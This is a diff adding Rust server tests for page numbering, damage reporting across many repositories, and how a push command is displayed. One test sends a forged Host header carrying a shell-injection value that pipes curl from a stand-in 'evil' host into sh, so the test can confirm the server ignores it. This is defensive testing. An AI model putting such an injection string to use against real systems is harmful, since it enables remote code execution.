@@ -7,9 +7,11 @@ use snap_core::{
         observe::Silent,
         time::Time,
     },
+    disk::Disk,
     ops::commit,
-    repo::{ref_name::RefName, refs::Change},
+    repo::{Config, Repo, ref_name::RefName, refs::Change},
 };
+use snap_server::settings::Settings;
 
 use crate::{
     hostile,
@@ -162,6 +164,75 @@ async fn lists_are_paged() {
     assert!(first.contains("f0998") && !first.contains("f0999"), "the name `a` comes first");
     let second = page(&serving, "/r/default/c/main?page=2").await;
     assert!(!second.contains("f0998") && second.contains("f1000"));
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_page_beyond_the_last_one_says_which_is_the_last() {
+    let place = Place::new();
+    for n in 0..52 {
+        place.change("a", format!("{n}"));
+    }
+    for name in 0..1001 {
+        fs_err::write(place.folder.path().join(format!("files/f{name:04}")), "").unwrap();
+    }
+    place.change("a", "last");
+    let serving = Serving::of(&place);
+    for (path, last) in [
+        ("/r/default?rev=main&page=5", 2),
+        ("/r/default/c/main?page=5", 2),
+        ("/r/default/history/main/a?page=5", 2),
+        ("/r/default/refs?page=5", 1),
+        ("/?page=5", 1),
+    ] {
+        let answer = ask(&serving, path).await;
+        assert_eq!(answer.status, 404, "{path}");
+        let told = format!("there is no page 5: the last one is {last}");
+        assert!(answer.text.contains(&told), "{path}: {}", answer.text);
+    }
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn each_of_many_repositories_is_looked_at() {
+    let folder = tempfile::tempdir().unwrap();
+    for number in 0..103 {
+        let dir = folder.path().join(format!("r{number:03}"));
+        Repo::init(&dir, &Disk::default(), &Config::default()).unwrap();
+    }
+    let id = CommitId::of(b"none");
+    fs_err::write(folder.path().join("r102/refs/heads/main"), format!("{id}\nand more\n")).unwrap();
+    let serving = Serving::over(folder.path());
+    let first = page(&serving, "/").await;
+    assert!(first.contains("103 repositories") && first.contains("href=\"/?page=2\""), "{first}");
+    assert!(first.contains("r099") && !first.contains("r100"), "{first}");
+    let second = page(&serving, "/?page=2").await;
+    assert_eq!(second.matches("No commits yet").count(), 2, "{second}");
+    assert_eq!(second.matches("This repository is damaged").count(), 1, "{second}");
+    // Those who watch the server are told, too.
+    let get = |path: &str| serving.client.get(format!("{}{path}", serving.origin()));
+    let ready = get("/ready").send().await.unwrap();
+    assert_eq!(ready.status(), 200, "one repository keeps nobody from the others");
+    assert_eq!(ready.text().await.unwrap(), "ready\n1 repository is damaged\n");
+    let metrics = get("/metrics").send().await.unwrap().text().await.unwrap();
+    assert!(metrics.contains("snap_damage_met_total{repository=\"r102\"} 1"), "{metrics}");
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn commands_show_the_public_address_and_nothing_that_a_request_makes_up() {
+    let place = Place::new();
+    let shown = async |serving: &Serving, host: &str| {
+        let ask = serving.client.get(format!("{}/r/default", serving.origin()));
+        let ask = ask.header("host", host).header("accept", "text/html");
+        ask.send().await.unwrap().text().await.unwrap()
+    };
+    let open = Settings { without_tokens_anyone_may_read_and_write: true, ..Default::default() };
+    let serving = Serving::start(&place, open.clone());
+    assert!(shown(&serving, "a.example:80").await.contains("snap push http://a.example:80 main"));
+    let made_up = shown(&serving, "x;curl${IFS}evil|sh").await;
+    assert!(made_up.contains("snap push http://localhost main"), "{made_up}");
+    let public_url = Some("https://snap.example.org/".to_owned());
+    let serving = Serving::start(&place, Settings { public_url, ..open });
+    let told = shown(&serving, "a.example").await;
+    assert!(told.contains("snap push https://snap.example.org main"), "{told}");
 }
 
 #[tokio::test(flavor = "multi_thread")]
